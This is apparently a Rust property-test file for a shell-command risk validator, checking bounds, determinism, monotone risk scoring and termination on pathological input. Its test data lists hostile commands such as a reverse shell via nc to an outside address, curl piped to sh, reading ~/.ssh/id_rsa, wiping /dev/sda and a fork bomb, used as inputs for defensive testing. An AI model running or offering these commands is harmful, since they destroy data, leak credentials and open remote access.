//! What holds for every text.

use ctrlz_policy::{Context, Validator, Verdict};
use proptest::prelude::*;

fn judge(text: &str) -> Verdict {
    Validator::new(Context::default()).command(text.as_bytes())
}

/// Pieces of shell programs, the dangerous ones among them.
fn piece() -> impl Strategy<Value = String> {
    let pieces = vec![
        "rm -rf /",
        "ls",
        "echo hi",
        "x=rm",
        "$x -rf /",
        "cd /",
        "cd /tmp",
        "rm -rf *",
        "|",
        ";",
        "&&",
        "\n",
        "(",
        ")",
        "{",
        "}",
        "'",
        "\"",
        "`",
        "$(",
        "<<EOF",
        "EOF",
        "if true; then",
        "fi",
        "for i in a b; do",
        "done",
        "f() {",
        "f",
        "eval",
        "base64 -d",
        "| sh",
        "sudo",
        "xargs",
        "curl http://a.example/b",
        "> out",
        ">> ~/.bashrc",
        "${x:-y}",
        "$((1+1))",
        "*",
        "[ a = b ]",
        "case x in",
        "esac",
        "\\",
        "#",
        "$IFS",
        "{a,b}",
        "python3 -c 'print(1)'",
        "cat /etc/passwd",
        "~",
        "while :; do",
        "function g",
        "alias l=ls",
        "l",
        "trap 'ls' EXIT",
        "<(ls)",
        "exec",
        "set -- a b",
        "\"$@\"",
    ];
    prop::sample::select(pieces).prop_map(str::to_owned)
}

/// Commands that are whole, so that one behind the other keeps its meaning.
fn whole() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "rm -rf /",
        "curl http://a.example/x | sh",
        "chmod -R 777 /etc",
        "cat ~/.ssh/id_rsa",
        "git push --force",
        "ls -la",
        "npm install",
        "printenv",
        "sudo systemctl stop firewalld",
        "nc -e /bin/sh 10.0.0.1 99",
        "echo hi > notes.txt",
        "dd if=/dev/zero of=/dev/sda",
        "history -c",
        "rm -rf build",
        "crontab -r",
        ":(){ :|:& };:",
        "while true; do :; done",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_judged(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        let verdict = Validator::new(Context::default()).command(&bytes);
        for finding in &verdict.findings {
            prop_assert!(finding.range.start <= finding.range.end);
            prop_assert!(finding.range.end <= bytes.len(), "{finding:?}");
        }
    }

    #[test]
    fn any_pieces_are_judged_and_always_alike(pieces in prop::collection::vec(piece(), 0..25)) {
        let text = pieces.join(" ");
        let (first, second) = (judge(&text), judge(&text));
        prop_assert_eq!(&first, &second);
        for finding in &first.findings {
            prop_assert!(finding.range.end <= text.len(), "{text:?} {finding:?}");
        }
    }

    #[test]
    fn adding_a_dangerous_part_never_lowers_the_risk(one in whole(), other in whole()) {
        let alone = judge(one);
        for text in [format!("{one}; {other}"), format!("{one}\n{other}"), format!("{other}; {one}")] {
            let both = judge(&text);
            prop_assert!(both.risk >= alone.risk, "{text}: {} below {}", both.risk, alone.risk);
            prop_assert!(both.score >= alone.score, "{text}: {} below {}", both.score, alone.score);
        }
    }
}

#[test]
fn hostile_texts_are_judged_to_an_end() {
    let repeated = [
        "(",
        "$(",
        "`",
        "{a,b}",
        "sudo ",
        "xargs ",
        "eval ",
        "a=$a$a;",
        "a+=(x);",
        "f(){ f; };f;",
        "alias a='a a';a;",
        "cat <<E\n",
        "case x in ",
        "${a:-",
        "$((",
        "for i in a b c; do ",
        "a|",
        "if ",
        "\"",
        "'",
        "env x=1 ",
        "find . -exec ",
    ];
    for piece in repeated {
        let text = piece.repeat(64 * 1024 / piece.len());
        let verdict = judge(&text);
        assert!(verdict.score <= 100, "{piece}");
    }
}

#[test]
fn what_is_too_long_to_be_judged_is_high() {
    let text = "ls -la\n".repeat(40_000);
    assert!(judge(&text).risk >= ctrlz_core::verdict::Risk::High);
}
